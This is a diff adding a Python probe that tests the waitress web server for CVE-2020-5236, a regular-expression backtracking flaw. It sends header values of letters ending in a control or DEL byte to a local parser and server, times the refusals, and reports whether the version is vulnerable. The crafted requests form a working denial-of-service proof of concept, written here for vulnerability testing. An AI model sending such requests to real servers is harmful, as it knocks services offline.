@@ -1,0 +1,118 @@
+# /// vertice-probe
+# id = "PYSEC-2020-155"
+# aliases = ["CVE-2020-5236", "GHSA-73m2-3pwg-5fgc"]
+# package = "waitress"
+# summary = "The pattern that checks a header's value backtracks exponentially when a bad character ends it, so one short request stops the server."
+# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:N/I:N/A:H" }]
+# cwe = ["CWE-400", "CWE-1333"]
+# kind = "redos"
+# symbols = ["waitress.serve", "waitress.create_server", "waitress.serve_paste", "waitress.parser.HTTPRequestParser"]
+#
+# [[affected]]
+# package = "waitress"
+# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.4.3" }] }]
+#
+# [cases]
+# attack = "time to refuse a header of letters with a control character at the end grows exponentially"
+# [cases.variants]
+# server = "the same growth in a running server for bytes above 7F with a DEL at the end"
+# [cases.controls]
+# headers = "ordinary headers, empty and with blanks inside, are read"
+#
+# [test]
+# vulnerable = "1.4.2"
+# fixed = "1.4.3"
+# ///
+"""CVE-2020-5236: exponential backtracking over header values.
+
+The range of the advisory starts at 0, though only 1.4.2 has the pattern.
+"""
+
+import json
+import logging
+import socket
+import sys
+import threading
+import time
+import warnings
+
+warnings.simplefilter("ignore")
+SMALL, LARGE = 22, 28  # characters
+FLOOR = 0.004  # seconds; below it a time is noise
+THRESHOLD = 8.0  # linear 1.3, quadratic 1.6, exponential about 27
+
+
+def fastest(call):
+    best = None
+    for _ in range(3):
+        start = time.process_time()
+        call()
+        took = time.process_time() - start
+        best = took if best is None else min(best, took)
+    return best
+
+
+def growth(refuse):
+    refuse(1)
+    small, large = fastest(lambda: refuse(SMALL)), fastest(lambda: refuse(LARGE))
+    ratio = large / max(small, FLOOR)
+    facts = "%d characters %.4f s, %d characters %.4f s, ratio %.1f; refused" % (SMALL, small, LARGE, large, ratio)
+    return ("exploited" if ratio > THRESHOLD else "blocked"), facts
+
+
+def request(value):
+    return b"GET / HTTP/1.1\r\nHost: x\r\nX-Note: " + value + b"\r\n\r\n"
+
+
+def parse(data):
+    from waitress.adjustments import Adjustments
+    from waitress.parser import HTTPRequestParser
+
+    parser = HTTPRequestParser(Adjustments())
+    parser.received(data)
+    return parser
+
+
+def attack():
+    def refuse(count):
+        error = parse(request(b"x" * count + b"\x10")).error
+        if error is None or error.code != 400:
+            raise RuntimeError("the request was not refused: %r" % error)
+
+    return growth(refuse)
+
+
+def server():
+    import waitress
+
+    logging.getLogger("waitress").addHandler(logging.NullHandler())
+    made = waitress.create_server(lambda environ, start: [], host="127.0.0.1", port=0, threads=1)
+    address = ("127.0.0.1", made.socket.getsockname()[1])
+    threading.Thread(target=made.run, daemon=True).start()
+
+    def refuse(count):
+        client = socket.create_connection(address, 20)
+        client.sendall(request(b"\xe9" * count + b"\x7f"))
+        answer = client.recv(65536)
+        client.close()
+        if b" 400 " not in answer.split(b"\r\n")[0]:
+            raise RuntimeError("the request was not refused: %r" % answer[:80])
+
+    return growth(refuse)
+
+
+def headers():
+    parser = parse(b"GET /a HTTP/1.1\r\nHost: x\r\nX-Empty:\r\nX-Words: one  two\tthree \r\nX-Accent: \xe9\r\n\r\n")
+    wanted = {"HOST": "x", "X_EMPTY": "", "X_WORDS": "one  two\tthree", "X_ACCENT": u"\xe9"}
+    good = parser.error is None and parser.path == "/a" and parser.headers == wanted
+    return ("works", "four headers read") if good else ("broken", "%r %r" % (parser.error, parser.headers))
+
+
+CASES = {"attack": attack, "server": server, "headers": headers}
+
+if __name__ == "__main__":
+    try:
+        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
+    except BaseException as error:  # could not reach the code: never "blocked"
+        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
+    print(json.dumps({"outcome": outcome, "evidence": evidence}))
